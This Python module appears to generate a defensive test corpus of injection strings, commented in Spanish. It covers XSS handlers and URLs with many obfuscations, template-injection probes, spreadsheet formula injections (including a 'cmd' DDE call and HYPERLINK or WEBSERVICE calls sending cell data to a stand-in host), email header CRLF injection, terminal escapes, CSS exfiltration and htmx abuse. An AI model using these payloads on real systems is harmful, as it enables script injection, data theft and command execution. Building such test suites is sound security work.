"""Textos con que un desconocido intenta que la consola, un correo o una hoja de calculo haga lo que no debe.

Hechos por composicion: que se mete (etiqueta, suceso, direccion), en que contexto caeria (texto, atributo con o sin
comillas, comentario, guion, estilo) y con que disfraz (mayusculas, entidades, caracteres que no se ven). Todo lo que
llegara a ejecutarse deja `window.__ejecutado`; todo lo que se llegara a pedir va a `FUERA`. Cada texto lleva un numero
propio, para comprobar que de verdad se mostro.
"""

import itertools
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

ORDEN: Final = "window.__ejecutado=1"
FUERA: Final = "http://127.0.0.9:9"


@dataclass(frozen=True, slots=True)
class Texto:
    """`clase`: que se intenta. `carga`: lo malo, sin nada delante (para un enlace o el principio de una celda)."""

    numero: int
    clase: str
    carga: str

    @property
    def sello(self) -> str:
        """Lo que se busca en la pagina para saber que este texto se mostro."""
        return f"zq{self.numero}z"

    @property
    def texto(self) -> str:
        return f"{self.sello} {self.carga}"

    def __str__(self) -> str:
        return f"{self.numero} ({self.clase}) {self.carga!r}"


_CON_SUCESO: Final = (
    ("img src=x", "onerror"), ("img src=x", "onload"), ("svg", "onload"), ("svg/", "onload"), ("body", "onload"),
    ("body", "onpageshow"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source", "onerror"),
    ("object data=x", "onerror"), ("embed src=x", "onload"), ("iframe src=x", "onload"), ("marquee", "onstart"),
    ("div style=animation:a", "onanimationstart"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"), ("math", "onfocus"), ("a tabindex=0 autofocus", "onfocusin"), ("button popovertarget=p", "onclick"),
    ("p popover id=p", "onbeforetoggle"), ("dialog open", "onclose"), ("x contenteditable autofocus", "onfocus"),
    ("svg><animate attributeName=x dur=1ms", "onbegin"), ("svg><set attributeName=x", "onend"), ("svg><image href=x", "onerror"),
    ("isindex", "onmouseover"), ("keygen autofocus", "onfocus"), ("p style=overflow:scroll", "onscrollend"), ("meter", "onpointerenter"),
)  # fmt: skip
_DIRECCIONES: Final = (
    "javascript:{o}", "JaVaScRiPt:{o}", "java\tscript:{o}", "java\nscript:{o}", "\x01javascript:{o}", " javascript:{o}",
    "javascript&colon;{o}", "&#106;avascript:{o}", "&#x6a;avascript:{o}", "javascript:%77indow.__ejecutado=1", "javascript:/*\n*/{o}",
    "javascript://a%0a{o}", "vbscript:{o}", "data:text/html,<script>{o}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{o}'/>", "blob:{o}", "filesystem:{o}", "view-source:{o}",
    "//127.0.0.9:9/x", "https:javascript:{o}", "http://[mal", 'https://a"onmouseover="{o}', "https://a' onmouseover='{o}",
    "https://a#<script>{o}</script>", 'https://a?"><script>{o}</script>', "https://a\\@127.0.0.9:9", "feed:javascript:{o}",
)  # fmt: skip
_PORTADORES: Final = (
    '<a href="{d}">x</a>', "<a href='{d}'>x</a>", '<iframe src="{d}"></iframe>', '<form action="{d}"><button>x</button></form>',
    '<object data="{d}"></object>', '<embed src="{d}">', '<base href="{d}">', '<meta http-equiv=refresh content="0;url={d}">',
    '<link rel=stylesheet href="{d}">', '<svg><a xlink:href="{d}"><text>x</text></a></svg>', '<button formaction="{d}">x</button>',
    '<img src="{d}">', '<video poster="{d}"></video>', '<input type=image src="{d}">', '<math href="{d}">x</math>', '<area href="{d}">',
)  # fmt: skip
_ENCIERRO: Final = (
    "{c}", '"{c}', "'{c}", '">{c}', "'>{c}", "-->{c}", "--!>{c}", "</title>{c}", "</textarea>{c}", "</style>{c}", "</script>{c}",
    "</noscript>{c}", "</template>{c}", "]]>{c}", "</blockquote></main></body>{c}", "</bdi></span>{c}", "<!--{c}", "<![CDATA[{c}",
    "<template>{c}</template>", "<noscript>{c}</noscript>", "<svg><desc>{c}", "<math><mtext><table><mglyph><style>{c}", "<select>{c}",
    "<plaintext>{c}", "<xmp>{c}", "<frameset>{c}", "<?xml {c}?>", "<details open>{c}", '<iframe srcdoc="{c}">', "`{c}", '\\"{c}', "&quot;>{c}",
)  # fmt: skip
_DISFRACES: Final = {
    "tal cual": lambda t: t,
    "mayusculas": lambda t: t.swapcase(),
    "entidades": lambda t: "".join(f"&#{ord(c)};" for c in t),
    "entidades hex sin cierre": lambda t: "".join(f"&#x{ord(c):x}" for c in t),
    "porcentaje": lambda t: "".join(f"%{b:02x}" for b in t.encode()),
    "porcentaje doble": lambda t: t.replace("<", "%253C").replace(">", "%253E"),
    "escapes de js": lambda t: "".join(f"\\u{ord(c):04x}" for c in t),
    "ancho completo": lambda t: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in t),
    "angulos parecidos": lambda t: t.replace("<", "‹").replace(">", "›"),
    "angulos modificados": lambda t: t.replace("<", "\ufe64").replace(">", "\ufe65"),
    "largos de mas": lambda t: t.replace("<", "\udcc0\udcbc").replace(">", "\udcc0\udcbe"),
    "utf-7": lambda t: t.replace("<", "+ADw-").replace(">", "+AD4-"),
    "cero ancho": "\u200b".join,
    "nul": lambda t: t.replace("<", "<\x00").replace("=", "\x00="),
    "nul delante": lambda t: "\x00" + t,
    "sustituto suelto": lambda t: t.replace(">", "\ud83d>") + "\udc00",
    "saltos": lambda t: t.replace(" ", "\n").replace("=", "\f=\v"),
    "bidi": lambda t: f"\u202e{t[::-1]}\u202c{t}\u2066",
    "etiquetas invisibles": lambda t: t + "".join(chr(0xE0000 + ord(c)) for c in t if c < "\x7f"),
    "combinantes": lambda t: t.replace(">", ">\u0338").replace("<", "<\u0338"),
    "separadores": lambda t: t.replace(" ", "\u2028") + "\u2029\x85",
    "doble": lambda t: t.replace("<", "<<").replace(">", ">>"),
    "truncado": lambda t: t.rstrip(">"),
}
_GUION: Final = f"<script>{ORDEN}</script>"
_IMAGEN: Final = f"<img src=x onerror={ORDEN}>"
_MOLDES: Final = (
    "{{{{{x}}}}}", "{{%{x}%}}", "${{{x}}}", "#{{{x}}}", "<%={x}%>", "{{{{{x}|safe}}}}", "[[${{{x}}}]]", "{{#{x}#}}", "@({x})", "*{{{x}}}",
)  # fmt: skip
_EXPRESIONES: Final = (
    "7*7", "config", "self.__init__.__globals__", "persona.nombre", "''.__class__.__mro__", "constructor.constructor('x')()",
)  # fmt: skip
_INICIOS_FORMULA: Final = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  @", "\u00a0=", "\ufeff=", "\u200b=", "'=", '"=', "；=", "＝", "＋", "－", "＠", "\t＝", ";=",
)  # fmt: skip
_FORMULAS: Final = (
    "1+1", 'HYPERLINK("http://127.0.0.9:9/?"&A1,"ver")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://127.0.0.9:9")',
    'IMPORTXML("http://127.0.0.9:9","//a")', "SUM(1;1)*cmd|x!A",
)  # fmt: skip
_CABECERAS: Final = (
    "Bcc: otro@malo.example.com", "Content-Type: text/html", "Subject: otro", "MIME-Version: 1.0\r\n\r\n<b>x</b>",
    "\r\n<script>" + ORDEN + "</script>", "Set-Cookie: sesion=mia", "X-Malo: 1", ".\r\nQUIT",
)  # fmt: skip
_SALTOS: Final = (
    "\r\n",
    "\n",
    "\r",
    "%0d%0a",
    "\\r\\n",
    "\u2028",
    "\x85",
    "\x0b",
    "\x0c",
    "=0D=0A",
    "=?utf-8?q?=0D=0A?=",
    "\r\n ",
    "\x00\r\n",
)
_TERMINAL: Final = (
    "\x1b[2J\x1b[H", "\x1b]0;otro titulo\x07", "\x1b]8;;http://127.0.0.9:9\x07ver\x1b]8;;\x07", "\x9b31m", "\x1b[8m", "\x08" * 20, "\x1bP\x1b\\",
    "\x1b]52;c;eA==\x07",
)  # fmt: skip
_ESTILOS: Final = (
    "<style>@import '{f}';</style>", "<style>*{{background:url({f})}}</style>", "<p style=background:url({f})>", '<div style="position:fixed;inset:0">',
    "<style>main{{display:none}}</style>", "<link rel=prefetch href={f}>", "<style>input[value^=a]{{background:url({f})}}</style>",
    "}}body{{background:url({f})", '<p style="width:expression({o})">', "<p style=behavior:url({f})>",
)  # fmt: skip
_FORMAS: Final = (
    "<form id=app method=post action=/salir>", "<input name=version value=9>", "<form><input name=attributes><input name=parentNode></form>",
    "<a id=x href=tel:1>", "<img name=cookie>", "<output name=body>", "<form action={f}><button>Ingresar</button>", "<input form=x type=submit formaction={f}>",
    "<portal src={f}>", "<fencedframe src={f}>", "<template shadowrootmode=open><script>{o}</script></template>", "<dialog open>Su sesión venció</dialog>",
)  # fmt: skip
_HTMX: Final = (
    '<p hx-get="{f}" hx-trigger=load>', '<p data-hx-post="/salir" data-hx-trigger="load">', '<p hx-on:load="{o}">', '<p hx-on::load="{o}">',
    '<p data-hx-on-load="{o}">', "<p hx-vals='js:{{a:({o})}}' hx-get=/cola hx-trigger=load>", '<p hx-trigger="load[{o}]" hx-get=/cola>',
    '<p hx-ext="x" hx-swap-oob="true" id="contenido">', '<p hx-boost=true><a href="{f}">x</a></p>', '<p hx-headers=\'js:{{"a":{o}}}\' hx-get=/cola hx-trigger=load>',
)  # fmt: skip
_METRICAS: Final = (
    '"}} 1\nmoderacion_viva 0',
    '\\"}}',
    "# HELP x\n# TYPE x gauge\nx 1",
    'a",b="c',
    "\\",
    "\n\n",
    '{x="1"} 1',
)
_JSON: Final = (
    '","viva":true,"x":"',
    "</script><script>" + ORDEN + "</script>",
    "\\u003cscript\\u003e",
    '"}]}',
    "\u2028\u2029",
    "]}'",
    "/*",
    "__proto__",
)


def _cargas() -> Iterator[tuple[str, str]]:
    for i, (etiqueta, suceso) in enumerate(_CON_SUCESO):
        for j in range(3):
            encierro = _ENCIERRO[(i * 5 + j * 11) % len(_ENCIERRO)]
            yield "suceso", encierro.format(c=f"<{etiqueta} {suceso}={ORDEN}>")
    for encierro, carga in itertools.product(_ENCIERRO, (_GUION, _IMAGEN)):
        yield "encierro", encierro.format(c=carga)
    for i, direccion in enumerate(_DIRECCIONES):
        d = direccion.format(o=ORDEN)
        yield "enlace", d
        for j in range(2):
            yield "portador", _PORTADORES[(i + j * 7) % len(_PORTADORES)].format(d=d)
    for (nombre, disfraz), carga in itertools.product(
        _DISFRACES.items(), (_GUION, _IMAGEN, f"javascript:{ORDEN}")
    ):
        yield f"disfraz: {nombre}", disfraz(carga)
    yield from (("molde", m.format(x=x)) for m, x in itertools.product(_MOLDES, _EXPRESIONES))
    yield from (("formula", a + b) for a, b in itertools.product(_INICIOS_FORMULA, _FORMULAS))
    yield from (("cabecera", f"a{s}{c}") for s, c in itertools.product(_SALTOS, _CABECERAS))
    yield from (("terminal", t) for t in _TERMINAL)
    for clase, plantillas in (("estilo", _ESTILOS), ("forma", _FORMAS), ("htmx", _HTMX)):
        yield from ((clase, p.format(o=ORDEN, f=FUERA)) for p in plantillas)
    yield from (("metrica", t) for t in _METRICAS)
    yield from (("json", t) for t in _JSON)


TEXTOS: Final = tuple(Texto(n, clase, carga) for n, (clase, carga) in enumerate(_cargas()))


def muestra(cuantos: int) -> tuple[Texto, ...]:
    """Unos pocos, de todas las clases: en cada una, repartidos."""
    clases: dict[str, list[Texto]] = {}
    for t in TEXTOS:
        clases.setdefault(t.clase.partition(":")[0], []).append(t)
    de_cada = -(-cuantos // len(clases))
    return tuple(t for c in clases.values() for t in c[:: -(-len(c) // de_cada)])
